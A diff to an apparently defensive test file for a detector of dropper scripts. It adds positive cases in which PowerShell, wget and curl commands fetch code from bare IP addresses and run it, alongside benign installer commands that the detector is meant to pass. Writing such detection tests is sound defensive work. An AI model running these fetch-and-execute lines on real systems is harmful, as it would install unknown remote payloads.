@@ -102,6 +102,20 @@ CASES: dict[str, tuple[tuple[bytes, ...], tuple[bytes, ...]]] = {
             b'Set s = CreateObject("ADODB.Stream")\ns.SaveToFile "report.csv"',
         ),
     ),
+    "dropper.script_fetches_from_a_bare_address_and_runs": (
+        (
+            text("IE_X (New-Object Net.WebClient).Download_String('http://185.12.44.9/a.ps1')\r\n"),
+            text("#!/bin/sh\ncd /tmp; wg_et http://45.9.148.7/bins/x86; ch_mod 777 x86; ./x86 telnet\n"),
+            text("cu_rl -fsSL http://91.240.118.3:8080/i.sh | ba_sh\n"),
+            text('ba_sh -c "$(cu_rl -s https://8.210.3.4/go)"\n'),
+        ),
+        (
+            b"iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n",
+            b"curl --proto '=https' -sSf https://sh.rustup.rs | sh\n",
+            b"curl -fsSL http://192.168.1.4/setup.sh | sh\ncurl http://10.0.0.7:3000/a | bash\nwget http://127.0.0.1/a; chmod +x a\n",
+            b"curl -s http://52.18.3.4/health || exit 1\n",
+        ),
+    ),
     "dropper.script_decodes_and_runs": (
         (
             text("echo " + BLOB + " | base_64 -d | sh"),
